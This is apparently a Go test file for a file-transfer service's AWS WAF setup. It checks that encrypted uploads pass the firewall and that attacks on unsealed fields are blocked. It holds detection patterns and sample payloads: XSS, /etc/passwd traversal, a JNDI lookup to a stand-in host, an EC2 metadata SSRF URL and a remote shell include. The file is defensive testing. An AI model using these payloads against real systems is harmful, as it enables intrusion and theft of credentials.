package main

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	injection "github.com/corazawaf/libinjection-go"

	"sgraph.ai/send/shared/envelope"
	"sgraph.ai/send/shared/wire"
)

// request is what the firewall is shown.
type request struct {
	path, query string
	body        []byte
}

// part returns the part of a request that a rule of AWS looks into.
func (r request) part(name string) string {
	switch name {
	case "body":
		// Of a body, CloudFront shows the firewall the beginning.
		// https://docs.aws.amazon.com/waf/latest/APIReference/API_Body.html
		return string(r.body[:min(len(r.body), 16<<10)])
	case "query":
		plain, err := url.QueryUnescape(r.query)
		if err != nil {
			return r.query
		}
		return plain
	case "path":
		return r.path
	}
	return ""
}

// awsRule is a rule of AWS: the part of a request that it looks into, and what
// stands in for the patterns that AWS does not publish; nil matches nothing.
type awsRule struct {
	name, label, part string
	matches           func(part string) bool
}

// awsGroups are the rules of AWS's groups that look into bodies, queries or
// paths, with the labels that they put on what they match.
// https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
var awsGroups = map[string][]awsRule{
	"AWSManagedRulesAmazonIpReputationList": nil,
	"AWSManagedRulesBotControlRuleSet":      nil,
	"AWSManagedRulesKnownBadInputsRuleSet": family("awswaf:managed:aws:known-bad-inputs:", map[string]string{
		"JavaDeserializationRCE_BODY": "Body", "JavaDeserializationRCE_QUERYSTRING": "QueryString",
		"JavaDeserializationRCE_URIPATH": "URIPath",
		"Log4JRCE_BODY":                  "Body", "Log4JRCE_QUERYSTRING": "QueryString", "Log4JRCE_URIPATH": "URIPath",
		"ReactJSRCE_BODY": "Body", "ExploitablePaths_URIPATH": "URIPath",
	}),
	"AWSManagedRulesCommonRuleSet": family("awswaf:managed:aws:core-rule-set:", map[string]string{
		"SizeRestrictions_BODY": "Body", "SizeRestrictions_QUERYSTRING": "QueryString",
		"SizeRestrictions_URIPATH": "URIPath",
		"EC2MetaDataSSRF_BODY":     "Body", "EC2MetaDataSSRF_QUERYARGUMENTS": "QueryArguments",
		"EC2MetaDataSSRF_URIPATH": "URIPath",
		"GenericLFI_BODY":         "Body", "GenericLFI_QUERYARGUMENTS": "QueryArguments", "GenericLFI_URIPATH": "URIPath",
		"GenericRFI_BODY": "Body", "GenericRFI_QUERYARGUMENTS": "QueryArguments", "GenericRFI_URIPATH": "URIPath",
		"RestrictedExtensions_QUERYARGUMENTS": "QueryArguments", "RestrictedExtensions_URIPATH": "URIPath",
		"CrossSiteScripting_BODY": "Body", "CrossSiteScripting_QUERYARGUMENTS": "QueryArguments",
		"CrossSiteScripting_URIPATH": "URIPath",
	}),
}

// kinds stand in for what AWS's rules look for, by the first part of their names.
var kinds = map[string]func(string) bool{
	"CrossSiteScripting":     injection.IsXSS,
	"GenericLFI":             holding("../", "/etc/passwd"),
	"GenericRFI":             holding("://"),
	"EC2MetaDataSSRF":        holding("169.254.169.254"),
	"Log4JRCE":               holding("${jndi:"),
	"JavaDeserializationRCE": holding("rO0", "(java.lang.Runtime)", "\xac\xed\x00\x05"),
	"RestrictedExtensions":   holding(".log", ".ini", ".bak", ".conf"),
	"ExploitablePaths":       holding("/.git", "/.env"),
}

// holding matches text with any of these in it.
func holding(parts ...string) func(string) bool {
	return func(text string) bool {
		return slices.ContainsFunc(parts, func(s string) bool { return strings.Contains(text, s) })
	}
}

// family makes rules of their names and the last words of their labels.
func family(namespace string, rules map[string]string) (all []awsRule) {
	for name, word := range rules {
		kind, where, _ := strings.Cut(name, "_")
		rule := awsRule{name: name, label: namespace + kind + "_" + word, matches: kinds[kind]}
		rule.part = map[string]string{
			"BODY": "body", "QUERYSTRING": "query", "QUERYARGUMENTS": "query", "URIPATH": "path",
		}[where]
		if kind == "SizeRestrictions" {
			most := map[string]int{"body": 8 << 10, "query": 2 << 10, "path": 1 << 10}[rule.part]
			rule.matches = func(part string) bool { return len(part) > most }
		}
		all = append(all, rule)
	}
	return all
}

// acl evaluates the rules of a recorded web ACL as WAF does: in their order,
// until one blocks.
// https://docs.aws.amazon.com/waf/latest/developerguide/web-acl-rule-actions.html
type acl struct {
	t        *testing.T
	rules    []aclRule
	patterns map[string]*regexp.Regexp
	// sure are rules of AWS that match whatever is in their part of a request.
	sure func(awsRule) bool
}

type aclRule struct {
	Name           string
	Action         map[string]any
	OverrideAction map[string]any
	Statement      statement
	Priority       int
}

// statement has one of its fields, as in the API of WAF.
type statement struct {
	AndStatement, OrStatement, NotStatement *struct{ Statements []statement }
	LabelMatchStatement                     *struct{ Key, Scope string }
	RateBasedStatement                      *struct {
		AggregateKeyType           string
		EvaluationWindowSec, Limit int
		ScopeDownStatement         *statement
	}
	RegexMatchStatement *struct {
		RegexString         string
		FieldToMatch        field
		TextTransformations []transformation
	}
	XSSMatchStatement *struct {
		FieldToMatch        field
		TextTransformations []transformation
	}
	ManagedRuleGroupStatement *struct {
		Name                string
		ScopeDownStatement  *statement
		RuleActionOverrides []struct {
			Name        string
			ActionToUse map[string]any
		}
		ManagedRuleGroupConfigs any
		VendorName              string
	}
}

// transformation is a form of its field that a statement looks at: only NONE is
// known here.
type transformation struct {
	Priority int
	Type     string
}

// field is the part of a request that a statement looks into.
type field struct {
	URIPath  *struct{} `json:"uriPath"`
	JSONBody *struct {
		MatchPattern                                          struct{ IncludedPaths []string }
		InvalidFallbackBehavior, MatchScope, OversizeHandling string
	} `json:"jsonBody"`
}

// firewall reads the web ACL of a recorded stack, and refuses what it does not
// understand.
func firewall(t *testing.T, g *graph) *acl {
	t.Helper()
	a := &acl{t: t, patterns: map[string]*regexp.Regexp{}, sure: func(awsRule) bool { return false }}
	in := json.NewDecoder(strings.NewReader(asJSON(t, g.some(t, "aws:wafv2/webAcl:WebAcl")[0].Inputs["rules"])))
	var raw []map[string]json.RawMessage
	if err := in.Decode(&raw); err != nil {
		t.Fatal(err)
	}
	for _, r := range raw {
		delete(r, "visibilityConfig")
		text, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		var rule aclRule
		strict := json.NewDecoder(bytes.NewReader(text))
		strict.DisallowUnknownFields()
		if err := strict.Decode(&rule); err != nil {
			t.Fatalf("a rule of the firewall is not understood: %v: %s", err, text)
		}
		if depth := rule.Statement.depth(); depth > 3 {
			t.Errorf("%s has statements %d deep, of which the provider takes 3", rule.Name, depth)
		}
		a.rules = append(a.rules, rule)
	}
	slices.SortFunc(a.rules, func(a, b aclRule) int { return a.Priority - b.Priority })
	return a
}

// depth counts the statements within each other.
func (s statement) depth() int {
	deepest := 0
	for _, of := range []*struct{ Statements []statement }{s.AndStatement, s.OrStatement, s.NotStatement} {
		if of != nil {
			for _, inner := range of.Statements {
				deepest = max(deepest, inner.depth())
			}
		}
	}
	if r := s.RateBasedStatement; r != nil && r.ScopeDownStatement != nil {
		deepest = max(deepest, r.ScopeDownStatement.depth())
	}
	return deepest + 1
}

// blocks returns the name of the rule that blocks a request, or "".
func (a *acl) blocks(r request) string {
	labels := map[string]bool{}
	for _, rule := range a.rules {
		if group := rule.Statement.ManagedRuleGroupStatement; group != nil {
			if name := a.group(group.Name, rule, r, labels); name != "" {
				return name
			}
			continue
		}
		if !a.matches(rule.Statement, r, labels) {
			continue
		}
		if rule.Action["block"] != nil {
			return rule.Name
		}
	}
	return ""
}

// group evaluates a group of AWS.
func (a *acl) group(name string, in aclRule, r request, labels map[string]bool) string {
	rules, known := awsGroups[name]
	if !known {
		a.t.Fatalf("what the rules of %s are is not known here", name)
	}
	group := in.Statement.ManagedRuleGroupStatement
	if s := group.ScopeDownStatement; s != nil && !a.matches(*s, r, labels) {
		return ""
	}
	counts := map[string]bool{}
	for _, o := range group.RuleActionOverrides {
		counts[o.Name] = o.ActionToUse["count"] != nil
	}
	for _, rule := range rules {
		part := r.part(rule.part)
		if !a.sure(rule) && (rule.matches == nil || !rule.matches(part)) {
			continue
		}
		labels[rule.label] = true
		if !counts[rule.name] && in.OverrideAction["none"] != nil {
			return name + "/" + rule.name
		}
	}
	return ""
}

func (a *acl) matches(s statement, r request, labels map[string]bool) bool {
	one := func(of []statement, want bool) bool {
		return slices.ContainsFunc(of, func(s statement) bool { return a.matches(s, r, labels) == want })
	}
	switch {
	case s.AndStatement != nil:
		return !one(s.AndStatement.Statements, false)
	case s.OrStatement != nil:
		return one(s.OrStatement.Statements, true)
	case s.NotStatement != nil:
		return one(s.NotStatement.Statements, false)
	case s.LabelMatchStatement != nil:
		return labels[s.LabelMatchStatement.Key]
	case s.RateBasedStatement != nil:
		return false
	case s.RegexMatchStatement != nil:
		of := s.RegexMatchStatement
		if a.patterns[of.RegexString] == nil {
			a.patterns[of.RegexString] = regexp.MustCompile(of.RegexString)
		}
		return a.looks(of.FieldToMatch, of.TextTransformations, r, a.patterns[of.RegexString].MatchString)
	case s.XSSMatchStatement != nil:
		of := s.XSSMatchStatement
		return a.looks(of.FieldToMatch, of.TextTransformations, r, injection.IsXSS)
	}
	a.t.Fatalf("a statement of the firewall is not understood: %+v", s)
	return false
}

// looks says whether any of the values of a field match.
func (a *acl) looks(f field, forms []transformation, r request, matches func(string) bool) bool {
	if len(forms) != 1 || forms[0].Type != "NONE" {
		a.t.Fatalf("forms of a field are not understood: %+v", forms)
	}
	if f.URIPath != nil {
		return matches(r.path)
	}
	if f.JSONBody == nil || f.JSONBody.InvalidFallbackBehavior != "NO_MATCH" {
		a.t.Fatalf("a field of the firewall is not understood: %+v", f)
	}
	var message map[string]any
	if json.Unmarshal([]byte(r.part("body")), &message) != nil {
		return false
	}
	return slices.ContainsFunc(f.JSONBody.MatchPattern.IncludedPaths, func(p string) bool {
		value, found := message[strings.TrimPrefix(p, "/")]
		return found && matches(fmt.Sprint(value))
	})
}

// guarded runs a test on each stack that has a firewall.
func guarded(t *testing.T, test func(t *testing.T, a *acl)) {
	t.Helper()
	eachOnAll(t, func(t *testing.T, _, _ string, g *graph) {
		if len(g.of("aws:wafv2/webAcl:WebAcl")) == 0 {
			return
		}
		test(t, firewall(t, g))
	})
}

// to is a request to a route, with parameters as they are in the wild.
func to(r wire.Route, path int, query string, body []byte) request {
	filled := inBraces.ReplaceAllStringFunc(r.Paths[path], func(string) string {
		return fmt.Sprintf("%x", random(6))
	})
	return request{filled, query, body}
}

func random(n int) []byte {
	b := make([]byte, n)
	rand.Read(b)
	return b
}

// inJSON is a message as a body.
func inJSON(t *testing.T, message any) []byte {
	t.Helper()
	var text bytes.Buffer
	as := json.NewEncoder(&text)
	as.SetEscapeHTML(false) // as programs other than ours
	if err := as.Encode(message); err != nil {
		t.Fatal(err)
	}
	return text.Bytes()
}

// labelOf is the label of a transfer as it is sent.
func labelOf(size int) string {
	l := envelope.Label{Files: []envelope.LabelFile{{Name: "minutes.pdf", Size: 5, Type: "application/pdf"}}}
	if size > 0 {
		l.Picture = &envelope.Picture{Type: "image/jpeg", Data: append([]byte{0xff, 0xd8, 0xff}, random(size)...)}
	}
	return base64.StdEncoding.EncodeToString(envelope.SealLabel(envelope.NewKey(), l))
}

// TestFirewallLetsCiphertextPass in each form in which it travels, with the
// engine that such rules are known to use.
func TestFirewallLetsCiphertextPass(t *testing.T) {
	const each = 10_000
	guarded(t, func(t *testing.T, a *acl) {
		passes := func(i int, r request) {
			if rule := a.blocks(r); rule != "" {
				t.Fatalf("%s blocks request %d to %s, with a body of %d bytes", rule, i, r.path, len(r.body))
			}
		}
		taken := 0 // for attacks, by the engine
		for i := range each {
			sealed := random([]int{61, 500, 2 << 10, 8 << 10, 17 << 10}[i%5])
			if injection.IsXSS(string(sealed)) {
				taken++
			}
			old := i % 2
			passes(i, to(wire.UploadTransfer, old, "", sealed))
			text := base64.StdEncoding.EncodeToString(sealed)
			switch i % 3 {
			case 0:
				passes(i, to(wire.UploadTransfer, old, "", inJSON(t, wire.UploadTransferRequest{Data: &text})))
			case 1:
				passes(i, to(wire.UploadTransfer, old, "data="+url.QueryEscape(text), nil))
			case 2:
				passes(i, to(wire.CreateTransfer, old, "", inJSON(t, wire.CreateTransferRequest{
					FileSizeBytes: 1 << 20, ContentTypeHint: "text/plain; charset=utf-8", MaxDownloads: 3,
					TransferID: fmt.Sprintf("%x", random(6)), ExpiresAt: "2026-11-30T12:00:00+01:00",
					DeleteAuthHash: fmt.Sprintf("%x", random(32)), Label: labelOf([]int{0, 1 << 10, 5000}[i/3%3]),
				})))
			}
		}
		if taken < each/20 {
			t.Errorf("of %d ciphertexts the engine takes only %d for attacks: this test shows nothing", each, taken)
		}
	})
}

// TestNoBodyRuleBlocksCiphertext whatever patterns AWS has: rules that look
// into bodies and queries match all, and block nothing that is sealed and
// everything that is not.
func TestNoBodyRuleBlocksCiphertext(t *testing.T) {
	guarded(t, func(t *testing.T, a *acl) {
		var looking []awsRule
		for _, rules := range awsGroups {
			for _, r := range rules {
				if r.part == "body" || r.part == "query" {
					looking = append(looking, r)
				}
			}
		}
		for _, rule := range looking {
			a.sure = func(r awsRule) bool { return r.name == rule.name }
			for _, r := range wire.Routes() {
				for i := range r.Paths {
					blocked := a.blocks(to(r, i, "", nil)) != ""
					in := wire.SealedIn(r)
					sealed := in == wire.SealedPayload || in == wire.SealedLabel && rule.part == "body" ||
						r.Path() == wire.GetLink.Path() // where PutLink is
					if want := !sealed && rule.name != "SizeRestrictions_BODY"; blocked != want {
						t.Errorf("%s blocks %s %s: %v, want %v", rule.name, r.Method, r.Paths[i], blocked, want)
					}
				}
			}
		}
	})
}

// TestFirewallBlocksAttacks on what is not sealed.
func TestFirewallBlocksAttacks(t *testing.T) {
	attacks := map[string]string{
		"script":   `<script>alert(1)</script>`,
		"event":    `"><img src=x onerror=alert(1)>`,
		"upwards":  `../../../../etc/passwd`,
		"lookup":   `${jndi:ldap://203.0.113.9/a}`,
		"metadata": `http://169.254.169.254/latest/meta-data/`,
		"include":  `http://203.0.113.9/shell.txt`,
	}
	guarded(t, func(t *testing.T, a *acl) {
		for kind, attack := range attacks {
			for name, r := range map[string]request{
				"admin":           to(wire.CreateToken, 0, "", inJSON(t, wire.CreateTokenRequest{TokenName: attack})),
				"login":           to(wire.Login, 0, "", inJSON(t, wire.LoginRequest{APIKey: attack})),
				"parts":           to(wire.InitiateUpload, 0, "", inJSON(t, map[string]string{"transfer_id": attack})),
				"query of create": to(wire.CreateTransfer, 0, "x="+url.QueryEscape(attack), nil),
				"query":           to(wire.ListEvents, 0, "action="+url.QueryEscape(attack), nil),
				"create": to(wire.CreateTransfer, 0, "", inJSON(t, wire.CreateTransferRequest{
					ContentTypeHint: attack, Label: labelOf(0),
				})),
				"create, as it was": to(wire.CreateTransfer, 1, "", inJSON(t, wire.CreateTransferRequest{
					TransferID: attack,
				})),
				// Nothing is sealed on the way from one route to another.
				"detour": {"/api/transfers/upload/%2e%2e%2f%2e%2e/tokens", "", []byte(attack)},
			} {
				if a.blocks(r) == "" {
					t.Errorf("%s: %s passes: %s", name, kind, r.body)
				}
			}
		}
	})
}

// TestPartsOfPagesCountLess against an address than what the functions answer.
func TestPartsOfPagesCountLess(t *testing.T) {
	guarded(t, func(t *testing.T, a *acl) {
		counted := func(r request) (limits []int) {
			for _, rule := range a.rules {
				of := rule.Statement.RateBasedStatement
				if of != nil && (of.ScopeDownStatement == nil || a.matches(*of.ScopeDownStatement, r, nil)) {
					limits = append(limits, of.Limit)
				}
			}
			return limits
		}
		pages := counted(request{path: "/"})
		if len(pages) == 0 {
			t.Fatal("nothing bounds what one address may ask")
		}
		for _, path := range []string{wire.Assets + "0123/send.js", wire.ConsoleAssets + "0123/console.js"} {
			parts := counted(request{path: path})
			if len(parts) == 0 || slices.Min(parts) < maxParts*slices.Min(pages) {
				t.Errorf("an address may load pages %v times, and %s %v times", pages, path, parts)
			}
		}
		for _, path := range []string{"/assetsx", "/api/assets/", "//assets/", wire.CreateTransfer.Paths[0]} {
			if got := counted(request{path: path}); !slices.Equal(got, pages) {
				t.Errorf("%s is counted as %v, a page as %v", path, got, pages)
			}
		}
	})
}
